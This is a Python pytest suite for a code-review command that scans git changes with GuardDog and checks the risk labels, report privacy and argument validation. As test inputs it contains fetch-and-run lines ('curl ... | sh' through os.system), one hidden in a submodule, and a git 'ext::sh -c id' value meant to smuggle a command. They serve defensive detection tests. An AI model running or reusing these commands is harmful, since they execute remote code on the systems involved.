"""run-review --agent guarddog --sandbox none: a whole review over real git, and that it ends in review.json whatever upstream does."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from support.commands import run_command
from support.git_server import GitServer, Status
from support.reviews import PROJECT, Change
from support.upstreams import Commit, File, Upstream, build

CASES = Path(__file__).resolve().parents[1] / "cases" / "changes"
VALID = Draft202012Validator(json.loads((Path(__file__).resolve().parents[2] / "schemas" / "review.schema.json").read_bytes()))


def tree(case: str, side: str) -> dict[str, bytes]:
    root = CASES / case / side
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*") if path.is_file()}


class Reviews(Change):
    """Runs the command on upstreams that are served for it."""

    def __init__(self, root: Path, server: GitServer, cache: Path) -> None:
        super().__init__(root, server)
        self.cache = cache

    def run(self, *arguments: str, full: bool = False, cache: Path | None = None) -> tuple[int, dict[str, Any], str]:
        output = self.root / "review"
        options = [*self.options(output, full=full), "--agent", "guarddog", "--sandbox", "none", *arguments]
        done = run_command("run_review", *options, XDG_CACHE_HOME=str(cache or self.cache), RUNNER_TEMP="")
        made = json.loads((output / "review.json").read_bytes())
        assert list(VALID.iter_errors(made)) == []
        return done.returncode, made, done.stdout


@pytest.fixture
def reviews(tmp_path: Path, guarddog_cache: Path) -> Iterator[Reviews]:
    with GitServer(tmp_path / "upstreams") as server:
        yield Reviews(tmp_path, server, guarddog_cache)


def test_a_one_line_backdoor_blocks(reviews: Reviews) -> None:
    reviews.serve(tree("recipient/01-header", "base"), tree("recipient/01-header", "head"))
    code, made, shown = reviews.run()
    assert (code, made["outcome"], made["risk"], made["labels"]) == (1, "complete", "critical", ["security-risk:critical"])
    assert made["surface"][0]["evidence"] == [{"side": "head", "path": "src/server.py", "line": 20}]
    assert shown.startswith("# failure: critical risk (pattern scan only, no AI review)\n")
    assert "mail goes to the fixed address" in shown


def test_a_private_review_tells_the_level_alone(reviews: Reviews) -> None:
    reviews.serve(tree("recipient/01-header", "base"), tree("recipient/01-header", "head"))
    code, made, shown = reviews.run("--details", "private")
    assert (code, made["outcome"], made["risk"]) == (1, "complete", "critical")
    assert shown.startswith("# failure: critical risk")
    for published in (shown, json.dumps(made), (reviews.root / "review/review.md").read_text()):
        assert "server.py" not in published
        assert "fixed address" not in published


def test_a_harmless_change_passes(reviews: Reviews) -> None:
    reviews.serve(tree("mail-harmless/01-cc-parameter", "base"), tree("mail-harmless/01-cc-parameter", "head"))
    code, made, _ = reviews.run()
    assert (code, made["outcome"], made["reasons"]) == (0, "complete", [])
    assert made["risk"] in ("low", "info")


def test_what_is_new_counts_and_what_was_there_does_not(reviews: Reviews) -> None:
    bad = tree("malicious/shell-download", "head")
    reviews.serve(bad, bad | {"README.md": b"more\n"})
    assert reviews.run()[1]["risk"] == "info"


def test_guarddog_adds_what_it_finds(reviews: Reviews) -> None:
    reviews.serve(tree("malicious/shell-download", "base"), tree("malicious/shell-download", "head"))
    _, made, _ = reviews.run()
    assert [finding["severity"] for finding in made["findings"]] == ["high"]
    assert all(place["verified"] for finding in made["findings"] for place in finding["evidence"])
    assert "GuardDog" in made["report"]["markdown"]
    assert (reviews.root / "review/out/labels.txt").read_text() == "security-risk:high\n"


def test_a_full_review_reads_everything_at_one_commit(reviews: Reviews) -> None:
    bad = tree("malicious/shell-download", "head")
    reviews.serve(bad, bad | {"README.md": b"more\n"})
    _, made, _ = reviews.run(full=True)
    assert (made["mode"], made["base"], made["risk"]) == ("full", None, "high")


def test_a_change_outside_the_built_directory_is_not_the_servers(reviews: Reviews) -> None:
    reviews.serve({"server/a.py": b"x = 1\n"}, {"other/b.py": b"import os\nos.system('curl x.example | sh')\n"})
    assert reviews.run("--directory", "server")[1]["risk"] == "info"


def test_an_upstream_that_fails_blocks_with_the_reason(reviews: Reviews) -> None:
    reviews.serve({"a": b"1"}, {"a": b"2"})
    reviews.server.behave("ada/mail", Status(404))
    code, made, shown = reviews.run()
    assert (code, made["outcome"], made["risk"], made["report"]) == (1, "incomplete", None, None)
    assert "answered 404" in made["reasons"][0]
    # Nobody is reassured about what nobody has read.
    assert "## Surface\n\nNot read." in shown
    assert "0 new matches" not in shown


def test_a_payload_behind_a_submodule_is_read(reviews: Reviews) -> None:
    library = Upstream(
        "ada/lib",
        [Commit("one", {"lib.py": b"x = 1\n"}), Commit("two", {"lib.py": b"import os\nos.system('curl https://x.io | sh')\n"})],
        branches={"main": "two"},
    )
    with tempfile.TemporaryDirectory() as scratch:
        ids = build(Path(scratch), [library])["ada/lib"]
    settings = b'[submodule "lib"]\n\tpath = lib\n\turl = https://github.com/ada/lib\n'
    reviews.serve({".gitmodules": settings, "lib": File(ids["one"], "160000")}, {"lib": File(ids["two"], "160000")}, library)
    code, made, _ = reviews.run()
    assert (made["outcome"], made["risk"]) == ("complete", "high")
    assert {place["path"] for item in made["surface"] for place in item["evidence"]} == {"lib/lib.py"}
    assert code == 0  # high warns


def test_code_that_is_nested_without_end_is_said_and_does_not_hang(reviews: Reviews) -> None:
    reviews.serve({"a.py": b"x = 1\n"}, {"a.py": b"x = " + b"(" * 50_000 + b")" * 50_000 + b"\n", "b.js": b"x = " + b"[" * 50_000 + b"]" * 50_000})
    code, made, _ = reviews.run()
    assert code == 1 or made["risk"] not in ("low", "info")


def test_a_scanner_that_can_not_run_blocks(reviews: Reviews, tmp_path: Path) -> None:
    reviews.serve({"a": b"1"}, {"a": b"2"})
    (tmp_path / "cache" / "pinwarden").mkdir(parents=True)
    (tmp_path / "cache" / "pinwarden").chmod(0o755)
    code, made, _ = reviews.run(cache=tmp_path / "cache")
    assert code == 1
    assert "not a private folder" in made["reasons"][0]


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--project", "ext::sh -c id"),
        ("--project", "http://github.com/ada/mail"),
        ("--head", "main"),
        ("--base", "--output=x"),
        ("--directory", "../up"),
        ("--server", "a/b"),
    ],
)
def test_what_an_entry_would_be_refused_for_is_misuse(tmp_path: Path, option: str, value: str) -> None:
    given = {"--project": PROJECT, "--head": "a" * 40, "--base": "b" * 40} | {option: value}
    done = run_command("run_review", *(f"{key}={value}" for key, value in given.items()), "--agent=guarddog", f"--output={tmp_path / 'out'}")
    assert done.returncode == 2
    assert done.stderr.startswith("error: ")
    assert not (tmp_path / "out").exists()


def test_a_folder_that_holds_something_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("mine")
    done = run_command("run_review", "--project", PROJECT, "--head", "a" * 40, "--agent", "guarddog", "--output", tmp_path)
    assert done.returncode == 2
    assert "not an empty folder" in done.stderr
